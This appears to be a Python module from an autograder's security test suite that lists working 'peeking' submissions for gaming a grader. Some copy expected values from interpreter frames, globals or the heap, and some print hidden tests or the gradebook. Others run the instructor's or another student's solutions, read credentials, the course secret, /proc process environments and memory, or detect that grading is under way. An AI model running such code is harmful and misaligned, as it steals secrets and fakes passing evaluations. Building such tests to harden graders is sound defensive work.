"""Code that looks for what it is compared with: in the notebook, in memory, on the disk, in the system."""

from __future__ import annotations

from . import canaries
from .attack import PEEKING, Attack

# Files of the course, wherever the notebook runs: above the working folder, or beside what Python can import.
FIND = """\
import glob
import os
import sys


def find(pattern):
    tops = [os.getcwd(), *sys.path, os.environ.get("AUTOGRADER_COURSE", "/nowhere"), os.path.expanduser("~")]
    tops += [f"/proc/{os.getppid()}/cwd", f"/proc/{os.getppid()}/root/grading", "/autograder", "/grading"]
    for top in tops:
        for up in range(5):
            for path in glob.glob(os.path.join(top, *[".."] * up, pattern)):
                yield path


def read(path):
    try:
        with open(path, errors="replace") as file:
            return file.read(1 << 20)
    except OSError as error:
        return str(error)


"""
SOLUTIONS = f"""\
{FIND}
import json

for pattern in ("source/rows/rows.ipynb", "*.ipynb"):
    for path in find(pattern):
        for cell in json.loads(read(path) or "{{}}").get("cells", []) if "source" in path else []:
            text = "".join(cell["source"])
            if "BEGIN SOLUTION" in text and cell["cell_type"] == "code":
                print(text)
                exec(text)
        if "row_sums" in globals():
            break"""
STOLEN_VALUE = """\
def stolen(names):
    for name in ("expected", "desired", "right_weights"):
        if name in names:
            return names[name]"""
FRAMES = f"""\
import sys


{STOLEN_VALUE}


def row_sums(x):
    frame = sys._getframe(1)
    while frame is not None and x.shape != (2, 2):
        for names in (frame.f_locals, frame.f_globals):
            value = stolen(names)
            if value is not None:
                return value
        frame = frame.f_back
    return np.array([3.0, 7.0])"""
GLOBALS = """\
def row_sums(x):
    return globals().get("expected") if x.shape != (2, 2) else np.array([3.0, 7.0])"""
HEAP = f"""\
import gc


{STOLEN_VALUE}


def row_sums(x):
    if x.shape == (2, 2):
        return np.array([3.0, 7.0])
    for names in gc.get_objects():
        if type(names) is dict:
            value = stolen(names)
            if value is not None and getattr(value, "shape", None) == (len(x),):
                return value"""
HISTORY = """\
def row_sums(x):
    print(In[-1])
    return x.sum(axis=1)"""
HISTORY_COMPUTES = """\
def row_sums(x):
    if x.shape == (2, 2):
        return np.array([3.0, 7.0])
    line = next(line for line in In[-1].splitlines() if line.startswith("expected = "))
    return eval(line.removeprefix("expected = "), globals(), {"matrix": x})"""
LINECACHE = """\
import linecache


def row_sums(x):
    for name, entry in list(linecache.cache.items()):
        if len(entry) > 2 and "HIDDEN" in "".join(entry[2]):
            print("".join(entry[2]))
    return x.sum(axis=1)"""
TEST_FILES = f"""\
{FIND}

for pattern in ("tests/*.py", "source/*/*.ipynb", "autograded/*/*/*.ipynb", ".OTTER_LOG"):
    for path in find(pattern):
        print(path, "\\n".join(line for line in read(path).splitlines() if "{canaries.HIDDEN_TEST[:8]}" in line))"""
GRADEBOOK = f"""\
{FIND}
import sqlite3

for path in find("gradebook.db"):
    base = sqlite3.connect(f"file:{{path}}?mode=ro", uri=True)
    for (table,) in base.execute("select name from sqlite_master where type = 'table'").fetchall():
        print(table, base.execute(f"select * from {{table}}").fetchall())
    break"""
NEIGHBOUR = f"""\
{FIND}
import json

for path in [*find("submitted/alice/rows/rows.ipynb"), *find("alice/rows/rows.ipynb")]:
    for cell in json.loads(read(path))["cells"]:
        text = "".join(cell["source"])
        if cell["id"].endswith("-solution"):
            print(text)
            exec(text)
    break"""
PROC_ENVIRON = """\
import glob

for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(path).read().replace("\\0", "\\n"))
    except OSError as error:
        print(error)"""
PROC_MEMORY = """\
import os
import re

pid = os.getppid()
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
    for line in maps:
        low, high = (int(word, 16) for word in line.split()[0].split("-"))
        if " rw" in line and high - low < 200 << 20:
            try:
                memory.seek(low)
                found = set(re.findall(rb"canary-[a-z-]{5,40}", memory.read(high - low)))
            except (OSError, ValueError, OverflowError):
                continue
            if found:
                print(found)"""
PROC_ROOT = f"""\
import glob
import os

for path in glob.glob("/proc/[0-9]*/root" + os.path.expanduser("~")) + glob.glob("/proc/[0-9]*/root/home/*"):
    try:
        print(open(path + "/{canaries.HOME_FILE}").read())
    except OSError as error:
        print(error)"""
PROC_DESCRIPTORS = """\
import glob
import os

for link in glob.glob("/proc/*/fd/*"):
    try:
        target = os.readlink(link)
        if target.endswith((".ipynb", ".db", ".toml")):
            print(target, open(link, errors="replace").read(1 << 20))
    except OSError:
        pass"""
HOME_FILES = f"""\
import os

for name in os.listdir(os.path.expanduser("~")):
    print(name)
print(open(os.path.expanduser("~/{canaries.HOME_FILE}")).read())"""
NOTICED = f"""\
import os

known = ("NBGRADER", "AUTOGRADER", "OTTER", "PYTEST", "GRADE")
signs = [name for name in os.environ if name.startswith(known) and name != "{canaries.VARIABLE}"]
signs += [word for word in ("autograded", "grading", "submission", "autograder") if word in os.getcwd()]
if signs:
    print("{canaries.GRADED}", signs)"""
SECRET = f"""\
{FIND}

for path in find(".autograder/secret"):
    print("{canaries.SOURCE}", read(path))
    break"""
SECOND_RUN = """\
import time

time.sleep(0.3)
shared = np.memmap("board", dtype=np.float64, mode="w+", shape=(200,))


def row_sums(x):
    if x.shape == (2, 2):
        if shared[0]:
            raise ValueError(str(shared[1:4].tolist()))
        return x.sum(axis=1)
    if not shared[0]:
        shared[1 : 1 + x.size] = x.ravel()
        shared[0] = 1
        return -x.sum(axis=1)
    return x.sum(axis=1)"""


ATTACKS = (
    Attack(
        "history-prints-the-test", PEEKING, "prints the source of the running test cell from In[-1]",
        {"rows-sum": HISTORY}, base="right", named="history",
    ),
    Attack(
        "history-computes-the-answer", PEEKING, "runs the line of the test that computes what is expected",
        {"rows-sum": HISTORY_COMPUTES}, named="history",
    ),
    Attack(
        "line-cache", PEEKING, "prints the running test from Python's line cache",
        {"rows-sum": LINECACHE}, base="right", named="linecache",
    ),
    Attack(
        "frames", PEEKING, "returns the expected value that it finds in its callers",
        {"rows-sum": FRAMES}, named="frames",
    ),
    Attack(
        "globals", PEEKING, "returns the global variable that the test keeps its expected value in",
        {"rows-sum": GLOBALS}, named=r"globals\(\)",
    ),
    Attack(
        "heap", PEEKING, "searches every object of the interpreter for the expected value",
        {"rows-sum": HEAP}, named="get_objects",
    ),
    Attack(
        "reference-imported", PEEKING, "imports the grader's own reference solution",
        cell="from autograder import reference\n\nref = reference('rows')",
        answers={"rows-sum": "row_sums = ref.row_sums", "rows-scale": "scale_rows = ref.scale_rows"},
        named="imports autograder",
    ),
    Attack(
        "source-folder", PEEKING, "reads the instructor's notebook and runs the solutions in it",
        {"rows-sum": SOLUTIONS, "rows-scale": "pass", "rows-standardise": "pass"}, named="names 'source/'",
    ),
    Attack(
        "test-files", PEEKING, "prints hidden tests from the folders around it",
        cell=TEST_FILES, base="right", named="names 'source/'",
    ),
    Attack(
        "gradebook-read", PEEKING, "prints every table of the gradebook",
        cell=GRADEBOOK, named="names 'gradebook'",
    ),
    Attack(
        "neighbour-copied", PEEKING, "runs the answers of another student's submission",
        {"rows-sum": NEIGHBOUR, "rows-scale": "pass"}, named="names 'submitted/'",
    ),
    Attack(
        "environment", PEEKING, "prints the environment, with the grader's tokens in it",
        cell="import os\n\nprint(dict(os.environ))", named="reads the environment",
    ),
    Attack(
        "proc-environ", PEEKING, "prints the environment of every process",
        cell=PROC_ENVIRON, named="names '/proc/'",
    ),
    Attack(
        "proc-memory", PEEKING, "searches the memory of the process that started it",
        cell=PROC_MEMORY, named="names '/proc/'",
    ),
    Attack(
        "proc-root", PEEKING, "reads the home folder through the root of other processes",
        cell=PROC_ROOT, named="names '/proc/'",
    ),
    Attack(
        "proc-descriptors", PEEKING, "reads files that other processes have open",
        cell=PROC_DESCRIPTORS, named="names '/proc/'", probe=True,
    ),
    Attack(
        "home-folder", PEEKING, "reads credentials in the home folder",
        cell=HOME_FILES, named="home folder",
    ),
    Attack(
        "secret", PEEKING, "reads the course's secret, from which the hidden inputs are drawn",
        cell=SECRET, named="names '.autograder'",
    ),
    Attack(
        "error-tells-the-input", PEEKING, "raises an error that holds the hidden input, to be read in the feedback",
        {"rows-sum": "def row_sums(x):\n    raise ValueError(repr(x.tolist()))"}, base="right",
    ),
    Attack(
        "print-tells-the-input", PEEKING, "prints the hidden input, to be read in the feedback",
        {"rows-sum": "def row_sums(x):\n    print(x.tolist())\n    return x.sum(axis=1) * (len(x) == 2)"}, base="right",
    ),
    Attack(
        "input-kept-for-a-later-cell", PEEKING, "writes hidden inputs to a file; a later answer tells them",
        {"rows-sum": "def row_sums(x):\n    with open('/tmp/seen', 'a') as f:\n        f.write(repr(x.tolist()))\n"
                     "    return x.sum(axis=1)",
         "rows-scale": "def scale_rows(x):\n    raise ValueError(open('/tmp/seen').read())"}, base="right",
    ),
    Attack(
        "second-run-tells", PEEKING, "keeps a hidden input in shared memory, and tells it as the test is run again",
        {"rows-sum": SECOND_RUN}, base="right", probe=True,
    ),
    Attack(
        "grading-noticed", PEEKING, "tells by the environment and the working folder that it is being graded",
        cell=NOTICED, named="reads the environment",
    ),
)  # fmt: skip
